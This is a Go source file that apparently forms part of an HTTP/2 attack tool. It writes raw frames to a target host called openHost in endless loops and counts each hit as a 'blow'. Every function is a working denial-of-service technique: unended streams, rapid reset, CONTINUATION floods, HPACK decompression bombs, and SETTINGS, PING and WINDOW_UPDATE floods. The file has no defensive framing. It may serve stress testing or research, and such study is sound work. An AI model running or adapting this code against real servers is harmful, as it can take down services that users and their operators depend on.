//go:build linux

package main

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frames opens a connection of HTTP/2 and has do write frames by hand, again
// and again until the other side has enough of it.
func frames(ctx context.Context, do func(f *http2.Framer, id uint32) error, blows *atomic.Int64) {
	over(ctx, openHost, "h2", func(c net.Conn) {
		io.WriteString(c, http2.ClientPreface)
		f := http2.NewFramer(c, nil)
		f.AllowIllegalWrites = true
		f.WriteSettings()
		for id := uint32(1); id < 1<<31-2; id += 2 {
			if do(f, id) != nil {
				return
			}
			blows.Add(1)
		}
	})
}

func block(pairs ...string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for i := 0; i+1 < len(pairs); i += 2 {
		e.WriteField(hpack.HeaderField{Name: pairs[i], Value: pairs[i+1]})
	}
	return b.Bytes()
}

var (
	get  = block(":method", "GET", ":scheme", "https", ":authority", openHost, ":path", "/open/ping")
	pads = block("x-pad", strings.Repeat("y", 5000))
)

func headers(f *http2.Framer, id uint32, b []byte, last bool) error {
	return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: b, EndHeaders: true, EndStream: last})
}

// h2Streams opens streams and never ends them.
func h2Streams(ctx context.Context, blows *atomic.Int64) {
	frames(ctx, func(f *http2.Framer, id uint32) error { return headers(f, id, get, false) }, blows)
}

func rapidReset(ctx context.Context, blows *atomic.Int64) {
	frames(ctx, func(f *http2.Framer, id uint32) error {
		if err := headers(f, id, get, true); err != nil {
			return err
		}
		return f.WriteRSTStream(id, http2.ErrCodeCancel)
	}, blows)
}

func continuation(ctx context.Context, blows *atomic.Int64) {
	frames(ctx, func(f *http2.Framer, id uint32) error {
		if id == 1 {
			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: get})
		}
		return f.WriteContinuation(1, false, pads)
	}, blows)
}

func hpackBombs(ctx context.Context, blows *atomic.Int64) {
	first := append(block(":method", "GET", ":scheme", "https", ":authority", openHost, ":path", "/open/ping", "bomb", strings.Repeat("y", 4000)), bytes.Repeat([]byte{0xbe}, 12000)...)
	frames(ctx, func(f *http2.Framer, id uint32) error { return headers(f, id, first, true) }, blows)
}

func settings(ctx context.Context, blows *atomic.Int64) {
	frames(ctx, func(f *http2.Framer, id uint32) error {
		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: id})
	}, blows)
}

func pings(ctx context.Context, blows *atomic.Int64) {
	frames(ctx, func(f *http2.Framer, id uint32) error { return f.WritePing(false, [8]byte{byte(id)}) }, blows)
}

func windowUpdates(ctx context.Context, blows *atomic.Int64) {
	frames(ctx, func(f *http2.Framer, id uint32) error { return f.WriteWindowUpdate(0, 1) }, blows)
}
